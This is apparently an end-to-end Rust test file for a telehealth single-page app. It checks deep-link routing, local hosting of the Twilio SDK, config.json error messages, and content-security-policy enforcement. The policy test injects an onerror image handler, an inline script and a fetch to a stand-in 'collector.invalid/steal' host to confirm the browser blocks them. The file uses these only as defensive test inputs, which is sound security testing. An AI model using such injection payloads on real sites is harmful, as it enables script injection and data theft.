//! The SPA on a plain static host: deep links and run-time settings.

use e2e::browser::with_browser;
use e2e::dist_dir;
use e2e::servers::{copy_of_dist, serve_static, spawn_service};

#[tokio::test]
async fn deep_links_render_from_a_plain_static_server() {
    let site = serve_static(&dist_dir());
    with_browser("deep_links", async |b| {
        b.open_fresh(&format!("{site}/#/visit/an-invite")).await?;
        b.wait_for_text("h1", "Your video visit").await?;
        b.open_fresh(&format!("{site}/#/provider")).await?;
        b.wait_for_text("h1", "Clinician sign-in").await?;
        b.open_fresh(&format!("{site}/#/no/such/page")).await?;
        b.wait_for_text("h1", "Page not found").await?;
        // The Twilio SDK ships beside the SPA but is never part of first paint.
        let loaded = b
            .eval("return performance.getEntriesByType('resource').map(e => e.name).join(' ')")
            .await?;
        if loaded.as_str().unwrap_or_default().contains("twilio-video") {
            return Err(format!("first paint loaded the Twilio SDK: {loaded}"));
        }
        Ok(())
    })
    .await;
}

#[test]
fn the_twilio_sdk_is_served_from_our_own_dist() {
    let sdk = std::fs::read_to_string(dist_dir().join("twilio-video.min.js"))
        .expect("dist/twilio-video.min.js");
    assert!(
        sdk.len() > 300_000,
        "the minified SDK is about 339 KB, found {} bytes",
        sdk.len()
    );
    let index = std::fs::read_to_string(dist_dir().join("index.html")).unwrap();
    assert!(
        !index.contains("twilio-video"),
        "index.html must not load the SDK"
    );
}

#[tokio::test]
async fn a_broken_or_missing_config_json_shows_a_clear_message() {
    let dir = copy_of_dist("broken-config");
    std::fs::write(dir.join("config.json"), "{ \"api_base_url\": ").unwrap();
    let site = serve_static(&dir);
    with_browser("broken_config", async |b| {
        b.open_fresh(&format!("{site}/#/visit/an-invite")).await?;
        b.wait_for_text("[role=alert]", "config.json is not valid")
            .await?;
        std::fs::remove_file(dir.join("config.json")).map_err(|e| e.to_string())?;
        b.open_fresh(&format!("{site}/#/provider")).await?;
        b.wait_for_text("[role=alert]", "config.json was not found")
            .await?;
        Ok(())
    })
    .await;
    std::fs::remove_dir_all(dir).unwrap();
}

#[tokio::test]
async fn the_service_serves_the_spa_and_api_on_one_port() {
    let site = spawn_service(Some(dist_dir())).await.url;
    with_browser("one_port", async |b| {
        b.open_fresh(&format!("{site}/")).await?;
        b.wait_for_text("h1", "Hearth video visits").await?;

        // Markup injected into the page cannot run script or send data
        // elsewhere: the browser enforces the policy the service sent.
        b.eval(
            "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.injected = 1\">');
             const s = document.createElement('script'); s.textContent = 'window.injected = 2'; document.body.append(s);
             fetch('https://collector.invalid/steal').catch(() => {});
             return null",
        )
        .await?;
        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
        if b.eval("return window.injected ?? null").await? != serde_json::Value::Null {
            return Err("injected script ran".into());
        }
        let refused = b.policy_refusals().await;
        for what in ["inline event handler", "inline script", "Connecting to"] {
            if !refused.iter().any(|line| line.contains(what)) {
                return Err(format!("no refusal of the {what}: {refused:?}"));
            }
        }

        b.open_fresh(&format!("{site}/healthz")).await?;
        b.wait_for_text("body", "\"video_mode\":\"local\"").await?;
        Ok(())
    })
    .await;
}
